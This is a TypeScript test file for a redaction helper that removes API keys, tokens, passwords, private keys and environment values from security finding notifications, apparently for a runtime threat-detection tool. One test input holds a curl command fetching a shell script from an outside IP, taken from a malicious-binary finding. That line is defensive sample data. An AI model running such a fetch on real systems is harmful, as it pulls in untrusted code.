import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { isSecretKey, redact, REDACTED, redactEnv, redactString } from '../../shared/finding/redact.js';
import { fixture, SECRET } from './finding-helpers.js';

describe('redact', () => {
  test('the raw fixture notification loses its environment values, keeps the rest', () => {
    const raw = fixture('modified-malicious-binary.v1.json');
    const out = redact(raw);
    const text = JSON.stringify(out);
    assert.ok(!text.includes(SECRET));
    assert.ok(!text.includes('/usr/local/sbin:/usr/local/bin'), 'PATH value redacted too');
    assert.ok(text.includes('"STRIPE_API_KEY"'), 'names kept');
    assert.ok(text.includes('/usr/bin/curl'));
    assert.ok(JSON.stringify(raw).includes(SECRET), 'input not modified');
  });

  test('secret-looking keys at any depth, camelCase included', () => {
    const out = redact({ a: { accessToken: 'x1', clientSecret: 'x2', password: 'x3', API_KEY: 'x4', authorization: 'x5', 'x-goog-api-key': 'x6', nested: [{ private_key: 'x7' }] }, podName: 'ok', tokenless: '' });
    assert.deepEqual(out, { a: { accessToken: REDACTED, clientSecret: REDACTED, password: REDACTED, API_KEY: REDACTED, authorization: REDACTED, 'x-goog-api-key': REDACTED, nested: [{ private_key: REDACTED }] }, podName: 'ok', tokenless: '' });
  });

  test('Kubernetes env lists, env maps and KEY=value strings', () => {
    const out = redact({
      spec: { containers: [{ name: 'c', env: [{ name: 'DB_HOST', value: 'db' }, { name: 'X', valueFrom: { secretKeyRef: {} } }] }] },
      environment: { HOME: '/root' },
      envVariables: ['A=1', 'B'],
      setting: { name: 'DB_PASSWORD', value: 'pw' },
    });
    assert.deepEqual(out, {
      spec: { containers: [{ name: 'c', env: [{ name: 'DB_HOST', value: REDACTED }, { name: 'X', valueFrom: REDACTED }] }] },
      environment: { HOME: REDACTED },
      envVariables: [`A=${REDACTED}`, 'B'],
      setting: { name: 'DB_PASSWORD', value: REDACTED },
    });
  });

  test('well-known token formats inside free text', () => {
    const cases: [string, string][] = [
      [`key ${SECRET} end`, `key ${REDACTED} end`],
      ['AKIAABCDEFGHIJKLMNOP', REDACTED],
      ['Authorization: Bearer abc.def-ghi_123', `Authorization: Bearer ${REDACTED}`],
      ['curl https://user:pa55@host/x', `curl https://user:${REDACTED}@host/x`],
      ['--password=hunter2 --verbose', `--password=${REDACTED} --verbose`],
      ['x?api_key=abc&y=1', `x?api_key=${REDACTED}&y=1`],
      ['-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----', REDACTED],
      ['eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcdefghij', REDACTED],
      ['plain text /usr/bin/curl -s http://203.0.113.50/x.sh', 'plain text /usr/bin/curl -s http://203.0.113.50/x.sh'],
    ];
    for (const [input, expected] of cases) assert.equal(redactString(input), expected, input);
  });

  test('cycles, Buffers, Errors (no stack), Dates, Maps, depth limit', () => {
    const a: Record<string, unknown> = { n: 1 };
    a['self'] = a;
    const err = new Error(`failed with ${SECRET}`);
    const out = redact({ a, buf: Buffer.from('abc'), err, when: new Date(0), m: new Map([['token', 'x']]) }) as Record<string, unknown>;
    assert.deepEqual(out['a'], { n: 1, self: '[Circular]' });
    assert.equal(out['buf'], '[3 bytes]');
    assert.deepEqual(out['err'], { name: 'Error', message: `failed with ${REDACTED}` });
    assert.equal(out['when'], '1970-01-01T00:00:00.000Z');
    assert.deepEqual(out['m'], { token: REDACTED });
    let deep: unknown = 'leaf';
    for (let k = 0; k < 50; k++) deep = { deep };
    assert.ok(JSON.stringify(redact(deep)).includes('[Truncated]'));
    const shared = { x: 1 };
    assert.deepEqual(redact({ p: shared, q: shared }), { p: { x: 1 }, q: { x: 1 } }, 'a shared reference is not a cycle');
  });

  test('extra secret keys and helpers', () => {
    assert.deepEqual(redact({ ssn: '1', ok: 2 }, { extraSecretKeys: /^ssn$/ }), { ssn: REDACTED, ok: 2 });
    assert.equal(isSecretKey('serviceAccountName'), false);
    assert.equal(isSecretKey('refresh_token'), true);
    assert.deepEqual(redactEnv([{ name: 'A', val: 'x' }, { name: 'B' }]), [{ name: 'A', val: REDACTED }, { name: 'B', val: REDACTED }]);
    assert.deepEqual(redactEnv(undefined), []);
  });
});
